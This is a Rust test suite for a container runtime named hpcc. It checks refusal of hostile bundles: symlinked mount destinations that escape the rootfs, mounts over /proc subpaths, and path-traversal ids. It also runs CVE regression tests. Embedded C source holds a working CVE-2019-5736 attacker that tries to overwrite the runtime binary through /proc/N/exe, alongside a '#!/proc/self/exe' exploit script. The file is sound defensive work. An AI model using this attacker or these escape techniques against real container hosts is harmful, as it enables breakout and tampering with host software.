//! Hardening (issue #8): hostile and broken bundles, regression tests for
//! the runc CVEs that apply to a runtime of this shape, and crash safety.
//!
//! Every case passes as root and as an unprivileged user; where the kernel
//! gives an unprivileged user less, the test says so on stderr and checks
//! what can be checked instead. The CVE tests are written so that they fail
//! on a vulnerable runtime: each runs a real attacker or looks at the real
//! kernel state, never at what hpcc says about itself.
//!
//! Some cases need a small static C program (the attacker of CVE-2019-5736,
//! a probe that lists fds and walks `..`): it is compiled with
//! `gcc -static` at test time; a machine without gcc fails those tests with
//! a message saying so.

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::thread::sleep;
use std::time::{Duration, Instant};

use runtime_tests::{
    egid, euid, is_root, mounts_under, processes_with_arg, read_pid_file, Bundle, Output, ProcRef,
    TestEnv, WAIT_LIMIT,
};
use serde_json::{json, Value};

fn sh(script: &str) -> Vec<&str> {
    vec!["sh", "-c", script]
}

macro_rules! say {
    ($($arg:tt)*) => {{
        use std::io::Write as _;
        let _ = writeln!(std::io::stderr(), "hardening: {}", format!($($arg)*));
    }};
}

fn s(p: &Path) -> &str {
    p.to_str().expect("test paths are UTF-8")
}

/// hpcc did not crash: no abort (134), no signal, no Rust panic message.
#[track_caller]
fn no_crash(out: &Output) {
    assert_ne!(out.code(), 134, "hpcc aborted\n{out}");
    assert!(
        out.status.code().is_some(),
        "hpcc was killed by a signal\n{out}"
    );
    assert!(!out.stderr.contains("panicked"), "hpcc panicked\n{out}");
    assert!(
        !out.stderr.contains("RUST_BACKTRACE"),
        "hpcc panicked\n{out}"
    );
}

/// A refused bundle: nonzero exit, exactly one line on stderr containing
/// every needle (case-insensitive), no crash, nothing left under --root.
#[track_caller]
fn refused(env: &TestEnv, out: &Output, id: &str, bundle: &Bundle, needles: &[&str]) {
    no_crash(out);
    out.fails();
    let lines: Vec<&str> = out
        .stderr
        .lines()
        .filter(|l| !l.trim().is_empty())
        .collect();
    assert_eq!(lines.len(), 1, "expected a one-line error\n{out}");
    for n in needles {
        assert!(
            lines[0].to_lowercase().contains(&n.to_lowercase()),
            "the error should name {n:?}\n{out}"
        );
    }
    assert_eq!(
        env.root_entries(),
        Vec::<String>::new(),
        "a refused bundle left state under --root\n{out}"
    );
    env.assert_clean(id, None, bundle);
}

/// `create` must refuse the bundle (and `run` too, with the same message).
#[track_caller]
fn create_and_run_refuse(env: &TestEnv, bundle: &Bundle, needles: &[&str]) {
    for verb in ["create", "run"] {
        let id = env.id("refuse");
        let out = env.hpcc(&[verb, "--bundle", bundle.path(), &id]);
        refused(env, &out, &id, bundle, needles);
    }
}

/// `run` succeeds and returns stdout.
#[track_caller]
fn run_ok(env: &TestEnv, bundle: &Bundle) -> String {
    let id = env.id("run");
    let out = env.hpcc(&["run", "--bundle", bundle.path(), &id]);
    no_crash(&out);
    out.ok();
    env.assert_clean(&id, None, bundle);
    out.stdout
}

fn push_mount(bundle: &mut Bundle, m: Value) {
    bundle.edit(|c| c["mounts"].as_array_mut().expect("mounts").push(m));
}

// ---------------------------------------------------------------------------
// The static probe and attacker
// ---------------------------------------------------------------------------

const PROBE_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* fds: every open fd but the one listing them, with its target. */
static int fds(void) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) { perror("opendir /proc/self/fd"); return 1; }
    int me = dirfd(d);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        int fd = atoi(e->d_name);
        if (fd == me) continue;
        char p[64], t[4096];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(p, t, sizeof t - 1);
        t[n < 0 ? 0 : n] = 0;
        printf("fd %d %s\n", fd, t);
    }
    return 0;
}

/* cwd: walks ".." from the cwd to the top and compares it with "/": a cwd
   outside the root never reaches the container's root. */
static int cwd(void) {
    char buf[4096];
    char *c = getcwd(buf, sizeof buf);
    printf("getcwd %s\n", c ? c : strerror(errno));
    struct stat root, cur, up;
    if (stat("/", &root)) { perror("stat /"); return 1; }
    int d = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (d < 0) { perror("open ."); return 1; }
    for (int i = 0; i < 4096; i++) {
        int u = openat(d, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (u < 0) { perror("open .."); return 1; }
        fstat(d, &cur);
        fstat(u, &up);
        close(d);
        d = u;
        if (cur.st_dev == up.st_dev && cur.st_ino == up.st_ino) break;
    }
    fstat(d, &cur);
    printf("%s\n", cur.st_dev == root.st_dev && cur.st_ino == root.st_ino ? "cwd-inside" : "cwd-OUTSIDE");
    return 0;
}

/* ids [wait]: resuid, NoNewPrivs and capability lines; "wait" then blocks
   so the host can look at the process. */
static int ids(int wait) {
    uid_t r, e, s;
    getresuid(&r, &e, &s);
    printf("uids %u %u %u\n", r, e, s);
    FILE *f = fopen("/proc/self/status", "re");
    char line[256];
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Cap", 3)) {
            char *tab = strchr(line, '\t');
            if (tab) *tab = ' ';
            fputs(line, stdout);
        }
    printf("ready\n");
    fflush(stdout);
    while (wait) pause();
    return 0;
}

/* attack SECONDS LOG: CVE-2019-5736. Looks for processes in the container
   whose exe is neither itself nor busybox (that is: hpcc), stops each one,
   takes an O_PATH handle on its exe, resumes it, and keeps trying to
   reopen every handle for writing; once the binary is no longer busy
   (ETXTBSY) it writes a marker into it. Also tries /proc/N/exe directly. */
static int attack(int seconds, const char *log) {
    struct stat self, bb, st;
    stat("/proc/self/exe", &self);
    stat("/bin/busybox", &bb);
    int held[512];
    int nheld = 0;
    long seen = 0, stopped = 0, opened = 0, denied = 0, written = 0;
    pid_t me = getpid();
    time_t end = time(0) + seconds;
    char p[64], q[64];
    while (time(0) < end && access("/out/stop-attack", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == me) continue;
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            if (stat(p, &st) == 0 &&
                ((st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                 (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)))
                continue;
            seen++;
            if (kill(pid, SIGSTOP) == 0) stopped++;
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                denied++;
            } else if (nheld < 512) {
                held[nheld++] = fd;
                opened++;
            } else {
                close(fd);
            }
            int w = open(p, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                if (pwrite(w, "HPCC-PWNED", 10, 0) == 10) written++;
                close(w);
            }
            kill(pid, SIGCONT);
        }
        if (d) closedir(d);
        for (int i = 0; i < nheld; i++) {
            snprintf(q, sizeof q, "/proc/self/fd/%d", held[i]);
            int w = open(q, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                if (pwrite(w, "HPCC-PWNED", 10, 0) == 10) written++;
                close(w);
            }
        }
    }
    FILE *f = fopen(log, "we");
    if (f) {
        fprintf(f, "seen %ld stopped %ld opened %ld denied %ld written %ld\n",
                seen, stopped, opened, denied, written);
        fclose(f);
    }
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 2 && !strcmp(argv[1], "fds")) return fds();
    if (argc >= 2 && !strcmp(argv[1], "cwd")) return cwd();
    if (argc >= 2 && !strcmp(argv[1], "ids")) return ids(argc >= 3 && !strcmp(argv[2], "wait"));
    if (argc >= 4 && !strcmp(argv[1], "attack")) return attack(atoi(argv[2]), argv[3]);
    fprintf(stderr, "usage: probe fds|cwd|ids [wait]|attack SECONDS LOG\n");
    return 2;
}
"#;

/// Compiles the probe (static, so it runs in the busybox rootfs).
fn build_probe(env: &TestEnv) -> PathBuf {
    let src = env.path("probe.c");
    let bin = env.path("probe");
    fs::write(&src, PROBE_C).expect("writing probe.c");
    let out = Command::new("gcc")
        .args(["-static", "-O1", "-o", s(&bin), s(&src)])
        .output()
        .unwrap_or_else(|e| {
            panic!("this test needs gcc with a static libc (apt-get install gcc libc6-dev): {e}")
        });
    assert!(
        out.status.success(),
        "gcc -static probe.c failed (needs libc6-dev's libc.a): {}",
        String::from_utf8_lossy(&out.stderr)
    );
    bin
}

/// Copies the probe into the bundle's rootfs as `/probe` (mode `mode`).
fn install_probe(probe: &Path, bundle: &Bundle, name: &str, mode: u32) -> PathBuf {
    let dest = bundle.rootfs().join(name);
    fs::copy(probe, &dest).expect("copying the probe into the rootfs");
    fs::set_permissions(&dest, fs::Permissions::from_mode(mode)).expect("chmod probe");
    dest
}

/// The fd numbers a `probe fds` printed.
fn fd_numbers(stdout: &str) -> Vec<u32> {
    stdout
        .lines()
        .filter_map(|l| l.strip_prefix("fd "))
        .filter_map(|l| l.split_whitespace().next()?.parse().ok())
        .collect()
}

// ---------------------------------------------------------------------------
// 1. Hostile and broken bundles
// ---------------------------------------------------------------------------

#[test]
fn malformed_config_json_is_refused_with_one_line() {
    let env = TestEnv::new("malformed");
    let bundle = env.bundle(&["true"]);
    let good = fs::read_to_string(bundle.config_path()).expect("config");
    let truncated = &good[..good.len() / 2];
    let cases: Vec<(&str, Vec<&str>)> = vec![
        ("", vec!["config.json", "invalid JSON"]),
        ("{ not json", vec!["config.json", "invalid JSON"]),
        (truncated, vec!["config.json", "invalid JSON"]),
        ("[1, 2]", vec!["config.json", "top level"]),
        ("\"1.0.0\"", vec!["config.json", "top level"]),
        (
            "{\"ociVersion\": \"1.0.0\", \"process\": 7}",
            vec!["config.json", "process"],
        ),
        (
            "{\"ociVersion\": \"1.0.0\", \"process\": {\"args\": \"sh\"}}",
            vec!["config.json", "args"],
        ),
        ("\u{feff}{}", vec!["config.json"]),
        ("{\"ociVersion\": 1.0}", vec!["config.json", "ociVersion"]),
    ];
    for (text, needles) in cases {
        fs::write(bundle.config_path(), text).expect("write config");
        create_and_run_refuse(&env, &bundle, &needles);
    }
    fs::remove_file(bundle.config_path()).expect("rm config");
    create_and_run_refuse(&env, &bundle, &["config.json"]);
}

#[test]
fn only_runtime_spec_1x_versions_are_accepted() {
    let env = TestEnv::new("versions");
    let mut bundle = env.bundle(&["echo", "accepted"]);
    for bad in [
        "0.1.0", "0.9.0", "2.0.0", "2.1.0", "10.0.0", "", "1", "v1.0.0",
    ] {
        bundle.edit(|c| c["ociVersion"] = json!(bad));
        create_and_run_refuse(&env, &bundle, &["ociVersion", bad]);
    }
    bundle.edit(|c| {
        c.as_object_mut().expect("object").remove("ociVersion");
    });
    create_and_run_refuse(&env, &bundle, &["ociVersion"]);
    // A 2.x config with a field of a different shape is refused for its
    // version, not for the field.
    bundle.edit(|c| {
        c["ociVersion"] = json!("2.0.0");
        c["process"]["user"] = json!("root");
    });
    create_and_run_refuse(&env, &bundle, &["ociVersion", "2.0.0"]);
    bundle.edit(|c| c["process"]["user"] = json!({"uid": 0, "gid": 0}));
    for good in [
        "1.0.0",
        "1.0.2",
        "1.0.2-dev",
        "1.1.0",
        "1.2.0",
        "1.2.1",
        "1.3.0",
        "1.99.7",
    ] {
        bundle.edit(|c| c["ociVersion"] = json!(good));
        assert_eq!(run_ok(&env, &bundle), "accepted\n", "ociVersion {good}");
    }
}

#[test]
fn unknown_properties_are_ignored() {
    let env = TestEnv::new("unknown");
    let mut bundle = env.bundle(&sh("hostname; echo $KNOWN"));
    bundle.edit(|c| {
        c["process"]["env"]
            .as_array_mut()
            .expect("env")
            .push(json!("KNOWN=still-applied"));
        c["org.example.unknown"] = json!({"nested": [1, 2, {"x": null}]});
        c["futureTopLevel"] = json!(42);
        c["process"]["futureProcessField"] = json!("x");
        c["process"]["user"]["futureUserField"] = json!(true);
        c["root"]["futureRootField"] = json!([]);
        c["linux"]["futureLinuxField"] = json!({"a": 1});
        c["linux"]["namespaces"][0]["futureNsField"] = json!(1);
        c["mounts"][0]["futureMountField"] = json!("y");
    });
    // The known fields around the unknown ones still apply.
    assert_eq!(
        run_ok(&env, &bundle),
        format!("{}\nstill-applied\n", bundle.hostname())
    );
}

#[test]
fn missing_or_empty_process_args_are_refused() {
    let env = TestEnv::new("noargs");
    let mut bundle = env.bundle(&["true"]);
    bundle.edit(|c| {
        c["process"]
            .as_object_mut()
            .expect("process")
            .remove("args");
    });
    create_and_run_refuse(&env, &bundle, &["process.args"]);
    for args in [json!([]), json!([""])] {
        bundle.edit(|c| c["process"]["args"] = args.clone());
        create_and_run_refuse(&env, &bundle, &["process.args"]);
    }
    bundle.edit(|c| {
        c.as_object_mut().expect("object").remove("process");
    });
    create_and_run_refuse(&env, &bundle, &["process"]);
}

#[test]
fn root_path_is_relative_to_the_bundle_and_must_exist() {
    let env = TestEnv::new("rootpath");
    let mut bundle = env.bundle(&["hostname"]);
    // Move the rootfs one level down and name it relative to the bundle;
    // hpcc runs from the test folder, not the bundle, so only a path taken
    // relative to the bundle finds it.
    fs::create_dir(bundle.dir.join("img")).expect("mkdir img");
    fs::rename(bundle.rootfs(), bundle.dir.join("img/rootfs")).expect("mv rootfs");
    for rel in ["img/rootfs", "./img/../img/rootfs"] {
        bundle.edit(|c| c["root"]["path"] = json!(rel));
        assert!(!env.dir.join(rel).exists());
        assert_eq!(run_ok(&env, &bundle), format!("{}\n", bundle.hostname()));
    }
    // Absolute works too.
    let abs = bundle.dir.join("img/rootfs");
    bundle.edit(|c| c["root"]["path"] = json!(s(&abs)));
    assert_eq!(run_ok(&env, &bundle), format!("{}\n", bundle.hostname()));
    // Missing, a file, or absent altogether.
    bundle.edit(|c| c["root"]["path"] = json!("no-such-rootfs"));
    create_and_run_refuse(&env, &bundle, &["root.path", "no-such-rootfs"]);
    fs::write(bundle.dir.join("afile"), "x").expect("afile");
    bundle.edit(|c| c["root"]["path"] = json!("afile"));
    create_and_run_refuse(&env, &bundle, &["root.path", "not a directory"]);
    bundle.edit(|c| {
        c.as_object_mut().expect("object").remove("root");
    });
    create_and_run_refuse(&env, &bundle, &["root.path"]);
}

#[test]
fn ids_with_slashes_or_dots_are_refused() {
    let env = TestEnv::new("badids");
    let bundle = env.bundle(&["true"]);
    let marker = format!("escape-{}", std::process::id());
    let up = format!("../{marker}");
    let nested = format!("x/../../{marker}");
    for bad in [
        "a/b",
        "/abs",
        ".",
        "..",
        up.as_str(),
        nested.as_str(),
        "a\nb",
        "",
    ] {
        for verb in ["create", "run"] {
            let out = env.hpcc(&[verb, "--bundle", bundle.path(), bad]);
            no_crash(&out);
            out.fails_with("container id");
            assert_eq!(env.root_entries(), Vec::<String>::new(), "{out}");
        }
        no_crash(&env.hpcc(&["delete", "--force", bad]));
        no_crash(&env.hpcc(&["state", bad]));
    }
    assert!(
        !env.dir.join(&marker).exists() && !env.dir.join("a").exists(),
        "an id escaped the state root"
    );
}

/// CVE-2019-16884 / CVE-2021-30465 class: a mount destination that is a
/// symlink out of the rootfs must be resolved inside the rootfs.
#[test]
fn symlinked_mount_destinations_stay_inside_the_rootfs() {
    let env = TestEnv::new("symdest");
    // One host folder per symlink (a later mount would otherwise resolve
    // through an earlier one), each with a sentinel that must stay alone.
    let outside: Vec<PathBuf> = ["exist", "new", "file", "rel", "tmp"]
        .iter()
        .map(|n| {
            let d = env.path(&format!("outside-{n}"));
            fs::create_dir(&d).expect("outside");
            fs::write(d.join("sentinel"), "host").expect("sentinel");
            d
        })
        .collect();
    let src = env.path("src");
    fs::create_dir(&src).expect("src");
    fs::write(src.join("payload"), "bound").expect("payload");
    let srcfile = env.path("srcfile");
    fs::write(&srcfile, "file-bound").expect("srcfile");
    let mut bundle = env.bundle(&sh(
        "cat /evil/payload; echo; cat /evilnew/payload; echo; cat /evilfile; echo; \
         cat /evilrel/payload; echo; ls /evil; touch /eviltmp/x && echo tmpfs-ok",
    ));
    let root = bundle.rootfs();
    // Absolute symlink to an existing host dir, to a host path that does
    // not exist, to a host file that does not exist, a relative one with
    // many "..", and a tmpfs over a symlink.
    symlink(&outside[0], root.join("evil")).expect("symlink");
    symlink(outside[1].join("newdir"), root.join("evilnew")).expect("symlink");
    symlink(outside[2].join("newfile"), root.join("evilfile")).expect("symlink");
    let rel = format!("../../../../../../../../..{}", s(&outside[3]));
    symlink(&rel, root.join("evilrel")).expect("symlink");
    symlink(outside[4].join("tmpdir"), root.join("eviltmp")).expect("symlink");
    for dest in ["/evil", "/evilnew", "/evilrel"] {
        push_mount(
            &mut bundle,
            json!({"destination": dest, "type": "bind", "source": src, "options": ["rbind"]}),
        );
    }
    push_mount(
        &mut bundle,
        json!({"destination": "/evilfile", "type": "bind", "source": srcfile, "options": ["bind"]}),
    );
    push_mount(
        &mut bundle,
        json!({"destination": "/eviltmp", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid"]}),
    );
    let out = run_ok(&env, &bundle);
    // The mounts are visible where the container resolves the symlinks,
    // i.e. inside its own root (no sentinel: the host folders are not
    // what the container sees).
    assert_eq!(
        out, "bound\nbound\nfile-bound\nbound\npayload\ntmpfs-ok\n",
        "the container sees its mounts through the symlinks"
    );
    for d in &outside {
        let left: Vec<String> = fs::read_dir(d)
            .expect("outside")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(
            left,
            ["sentinel"],
            "host folder {} was changed",
            d.display()
        );
        assert_eq!(
            fs::read_to_string(d.join("sentinel")).expect("sentinel"),
            "host"
        );
        assert!(mounts_under(d).is_empty());
    }
    assert_eq!(
        fs::read_dir(&src).expect("src").count(),
        1,
        "the bind source was changed"
    );
    // The mount points were made inside the rootfs, under the symlinks'
    // targets taken relative to it.
    for (d, made) in [
        (&outside[1], "newdir"),
        (&outside[2], "newfile"),
        (&outside[4], "tmpdir"),
    ] {
        let inside = root.join(s(d).trim_start_matches('/')).join(made);
        assert!(
            inside.symlink_metadata().is_ok(),
            "{} should have been created",
            inside.display()
        );
    }
}

/// runc's rule for /proc: only a procfs (or a bind of one) at /proc itself,
/// and only the few files lxcfs emulates below it; anything else over a
/// /proc subpath (attr, sys, sysrq-trigger, a symlink into /proc) is refused.
#[test]
fn mounts_over_proc_subpaths_are_refused() {
    let env = TestEnv::new("procdest");
    let src = env.path("src");
    fs::create_dir(&src).expect("src");
    let srcfile = env.path("srcfile");
    fs::write(&srcfile, "fake").expect("srcfile");
    let cases = [
        json!({"destination": "/proc/self/attr/exec", "type": "bind", "source": srcfile, "options": ["bind"]}),
        json!({"destination": "/proc/thread-self/attr/current", "type": "bind", "source": srcfile, "options": ["bind"]}),
        json!({"destination": "/proc/sys", "type": "bind", "source": src, "options": ["rbind"]}),
        json!({"destination": "/proc/sys/kernel", "type": "tmpfs", "source": "tmpfs"}),
        json!({"destination": "/proc/sysrq-trigger", "type": "bind", "source": srcfile, "options": ["bind"]}),
        json!({"destination": "/proc/1/../sys", "type": "tmpfs", "source": "tmpfs"}),
        json!({"destination": "/tmp/../proc/sys", "type": "tmpfs", "source": "tmpfs"}),
        json!({"destination": "/proc", "type": "tmpfs", "source": "tmpfs"}),
        json!({"destination": "/proc", "type": "bind", "source": src, "options": ["rbind"]}),
    ];
    for m in cases {
        let mut bundle = env.bundle(&["true"]);
        let dest = m["destination"].as_str().expect("dest").to_string();
        push_mount(&mut bundle, m);
        create_and_run_refuse(&env, &bundle, &[&dest]);
    }
    // A symlink in the rootfs that leads into /proc is caught too.
    let mut bundle = env.bundle(&["true"]);
    symlink("/proc/sys", bundle.rootfs().join("psys")).expect("symlink");
    push_mount(
        &mut bundle,
        json!({"destination": "/psys", "type": "tmpfs", "source": "tmpfs"}),
    );
    create_and_run_refuse(&env, &bundle, &["/psys", "/proc"]);
    // What lxcfs does stays possible, and is visible inside.
    let mut bundle = env.bundle(&sh("cat /proc/uptime"));
    fs::write(&srcfile, "12345.67 0.00\n").expect("srcfile");
    push_mount(
        &mut bundle,
        json!({"destination": "/proc/uptime", "type": "bind", "source": srcfile, "options": ["bind", "ro"]}),
    );
    assert_eq!(run_ok(&env, &bundle), "12345.67 0.00\n");
}

#[test]
fn overlong_hostname_and_args() {
    let env = TestEnv::new("overlong");
    let mut bundle = env.bundle(&["hostname"]);
    let ok = "h".repeat(64);
    bundle.edit(|c| c["hostname"] = json!(ok));
    assert_eq!(
        run_ok(&env, &bundle),
        format!("{ok}\n"),
        "64 bytes is the limit"
    );
    bundle.edit(|c| c["hostname"] = json!("h".repeat(65)));
    create_and_run_refuse(&env, &bundle, &["hostname"]);
    bundle.edit(|c| c["hostname"] = json!("h".repeat(1 << 20)));
    create_and_run_refuse(&env, &bundle, &["hostname"]);
    // One argument of 100 KiB fits (MAX_ARG_STRLEN is 128 KiB) and arrives
    // whole; one of 1 MiB cannot be passed to execve and must say so.
    bundle.edit(|c| c["hostname"] = json!("hpcc-test"));
    let big = "a".repeat(100 << 10);
    bundle.set_args(&["sh", "-c", "echo ${#1}", "sh", &big]);
    assert_eq!(run_ok(&env, &bundle), format!("{}\n", 100 << 10));
    let huge = "a".repeat(1 << 20);
    bundle.set_args(&["sh", "-c", "echo ${#1}", "sh", &huge]);
    for verb in ["create", "run"] {
        let id = env.id("hugearg");
        let out = env.hpcc(&[verb, "--bundle", bundle.path(), &id]);
        no_crash(&out);
        let out = if verb == "create" && out.success() {
            // Allowed: the failure may surface at start, as with a missing program.
            let start = env.hpcc(&["start", &id]);
            no_crash(&start);
            env.hpcc(&["delete", "--force", &id]).ok();
            start
        } else {
            out
        };
        out.fails_with("process.args");
        assert!(
            out.stderr.trim().lines().count() == 1 && out.stderr.len() < 4096,
            "the error is one short line, not the argument\n{}",
            &out.stderr[..out.stderr.len().min(4096)]
        );
        env.assert_clean(&id, None, &bundle);
    }
}

#[test]
fn overflowing_id_maps_are_refused() {
    let env = TestEnv::new("idoverflow");
    let mut bundle = env.bundle(&["true"]);
    bundle.edit(|c| {
        let ns = c["linux"]["namespaces"].as_array_mut().expect("ns");
        if !ns.iter().any(|n| n["type"] == "user") {
            ns.push(json!({"type": "user"}));
        }
    });
    let good_u = json!([{"containerID": 0, "hostID": euid(), "size": 1}]);
    let good_g = json!([{"containerID": 0, "hostID": egid(), "size": 1}]);
    let max = u64::from(u32::MAX);
    let bad_maps = [
        json!([{"containerID": max, "hostID": euid(), "size": 2}]),
        json!([{"containerID": 1, "hostID": euid(), "size": max}]),
        json!([{"containerID": 0, "hostID": max, "size": 2}]),
        json!([{"containerID": 0, "hostID": euid(), "size": 0}]),
    ];
    for (field, key) in [
        ("linux.uidMappings", "uidMappings"),
        ("linux.gidMappings", "gidMappings"),
    ] {
        for bad in &bad_maps {
            bundle.edit(|c| {
                c["linux"]["uidMappings"] = good_u.clone();
                c["linux"]["gidMappings"] = good_g.clone();
                c["linux"][key] = bad.clone();
            });
            create_and_run_refuse(&env, &bundle, &[field]);
        }
        // Values that do not fit in 32 bits at all are a type error naming
        // the field.
        bundle.edit(|c| {
            c["linux"]["uidMappings"] = good_u.clone();
            c["linux"]["gidMappings"] = good_g.clone();
            c["linux"][key] = json!([{"containerID": 1u64 << 32, "hostID": 0, "size": 1}]);
        });
        create_and_run_refuse(&env, &bundle, &["containerID"]);
    }
}

// ---------------------------------------------------------------------------
// 2. CVE regressions
// ---------------------------------------------------------------------------

fn sha256_of(path: &Path) -> String {
    use sha2::{Digest, Sha256};
    let data = fs::read(path).unwrap_or_else(|e| panic!("reading {}: {e}", path.display()));
    format!("{:x}", Sha256::digest(&data))
}

/// CVE-2019-5736: a container process must not be able to overwrite the
/// runtime binary through /proc/N/exe of an hpcc process that joins it,
/// neither of the `exec` helper itself nor of hpcc re-run inside the
/// container through a `#!/proc/self/exe` script (the original exploit).
/// Runs against a copy of the binary, owned by the test user, so that a
/// successful attack destroys only the copy.
#[test]
fn cve_2019_5736_runtime_binary_cannot_be_overwritten() {
    let mut env = TestEnv::new("cve5736");
    let probe = build_probe(&env);
    let copy = env.path("hpcc-copy");
    fs::copy(&env.bin, &copy).expect("copying hpcc");
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).expect("chmod");
    let before = sha256_of(&copy);
    let real = env.bin.clone();
    env.bin = copy.clone();
    let mut bundle = env.bundle(&["/attack", "attack", "60", "/out/attack.log"]);
    install_probe(&probe, &bundle, "attack", 0o755);
    // The rootfs is read-only: the attacker's log goes to a bound folder.
    let outdir = env.path("attack-out");
    fs::create_dir(&outdir).expect("outdir");
    fs::set_permissions(&outdir, fs::Permissions::from_mode(0o777)).expect("chmod");
    push_mount(
        &mut bundle,
        json!({"destination": "/out", "type": "bind", "source": outdir, "options": ["rbind"]}),
    );
    fs::write(bundle.rootfs().join("bin/evil"), "#!/proc/self/exe\n").expect("evil");
    fs::set_permissions(
        bundle.rootfs().join("bin/evil"),
        fs::Permissions::from_mode(0o755),
    )
    .expect("chmod evil");
    let id = env.id("cve5736");
    let init = env.create_and_start(&bundle, &id);
    let rounds = 30;
    for i in 0..rounds {
        let prog = if i % 2 == 0 { "/bin/evil" } else { "/bin/true" };
        // A spawn failing with ETXTBSY means someone holds the binary open
        // for writing: the attacker. Retry; the hash check below decides.
        let mut tries = 0;
        let out = loop {
            match env.try_hpcc_in(&env.dir, &["--root", env.root_str(), "exec", &id, prog]) {
                Ok(out) => break Some(out),
                Err(e) if e.contains("Text file busy") && tries < 20 => {
                    say!("exec {i}: {e}");
                    tries += 1;
                    sleep(Duration::from_millis(10));
                }
                Err(e) => {
                    say!("exec {i}: {e}");
                    break None;
                }
            }
        };
        if let Some(out) = &out {
            no_crash(out);
        }
        // Give the attacker a moment with no hpcc running, when the binary
        // is not busy and a held handle could be reopened for writing.
        sleep(Duration::from_millis(30));
    }
    sleep(Duration::from_millis(300));
    fs::write(outdir.join("stop-attack"), "").expect("stop");
    let log = outdir.join("attack.log");
    let deadline = Instant::now() + WAIT_LIMIT;
    while !log.exists() && Instant::now() < deadline {
        sleep(Duration::from_millis(50));
    }
    let stats = fs::read_to_string(&log).unwrap_or_else(|e| format!("no attacker log: {e}"));
    say!(
        "CVE-2019-5736 attacker after {rounds} execs: {}",
        stats.trim()
    );
    let after = sha256_of(&copy);
    // Clean up with the real binary: the copy may be broken.
    let _ = Command::new(&real)
        .args(["--root", env.root_str(), "delete", "--force", &id])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    init.assert_gone("the attacker");
    env.bin = real;
    assert_eq!(
        before,
        after,
        "the container overwrote the hpcc binary through /proc/N/exe ({})",
        stats.trim()
    );
    let seen: u64 = stats
        .split_whitespace()
        .skip_while(|w| *w != "seen")
        .nth(1)
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(
        seen > 0,
        "the attacker never saw an hpcc process in the container, so the test proved nothing: {stats}"
    );
    env.assert_clean(&id, Some(&init), &bundle);
}

/// Spawns hpcc with `extra` as fds 3.. (inheritable), everything else
/// above closed: a caller that leaks fds, as containerd-shim once did.
fn hpcc_with_fds(env: &TestEnv, args: &[&str], extra: &[&fs::File]) -> Output {
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    let raws: Vec<i32> = extra.iter().map(|f| f.as_raw_fd()).collect();
    let out_path = env.path(&format!("fds-{}.out", rand_suffix()));
    let err_path = env.path(&format!("fds-{}.err", rand_suffix()));
    // Through a shell that records hpcc's exit code: another test's orphan
    // reaper may collect our direct child's status before we do.
    let code_path = env.path(&format!("fds-{}.code", rand_suffix()));
    let mut cmd = Command::new("/bin/sh");
    cmd.arg("-c")
        .arg("\"$0\" \"$@\"; echo $? > \"$HPCC_CODE_FILE\"")
        .arg(&env.bin)
        .args(["--root", env.root_str()])
        .args(args)
        .env("HPCC_CODE_FILE", &code_path)
        .current_dir(&env.dir)
        .stdin(Stdio::null())
        .stdout(fs::File::create(&out_path).expect("out"))
        .stderr(fs::File::create(&err_path).expect("err"));
    // SAFETY: only dup/fcntl/close between fork and exec, on fds we own.
    unsafe {
        cmd.pre_exec(move || {
            // First move them all high, then down to 3.., so that no source
            // is overwritten before it is copied.
            let mut high = Vec::new();
            for (i, raw) in raws.iter().enumerate() {
                let h = libc::fcntl(*raw, libc::F_DUPFD, 900 + i as i32);
                if h < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                high.push(h);
            }
            for (i, h) in high.iter().enumerate() {
                let want = 3 + i as i32;
                if libc::dup2(*h, want) < 0 || libc::fcntl(want, libc::F_SETFD, 0) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            for fd in (3 + high.len() as i32)..1024 {
                libc::close(fd);
            }
            Ok(())
        });
    }
    let mut child = cmd.spawn().expect("spawn hpcc");
    wait_bounded(&mut child).expect("hpcc did not finish");
    let code: i32 = fs::read_to_string(&code_path)
        .ok()
        .and_then(|c| c.trim().parse().ok())
        .expect("the wrapper recorded hpcc's exit code");
    let status = {
        use std::os::unix::process::ExitStatusExt;
        std::process::ExitStatus::from_raw(code << 8)
    };
    Output {
        args: args.iter().map(|a| a.to_string()).collect(),
        status,
        stdout: fs::read_to_string(&out_path).unwrap_or_default(),
        stderr: fs::read_to_string(&err_path).unwrap_or_default(),
    }
}

fn rand_suffix() -> String {
    use std::sync::atomic::{AtomicUsize, Ordering};
    static N: AtomicUsize = AtomicUsize::new(0);
    format!(
        "{}-{}",
        std::process::id(),
        N.fetch_add(1, Ordering::Relaxed)
    )
}

/// Waits for a child we spawned outside the harness. Another test thread's
/// orphan reaper may collect it first (ECHILD); that counts as exited.
fn wait_bounded(child: &mut Child) -> Option<std::process::ExitStatus> {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        match child.try_wait() {
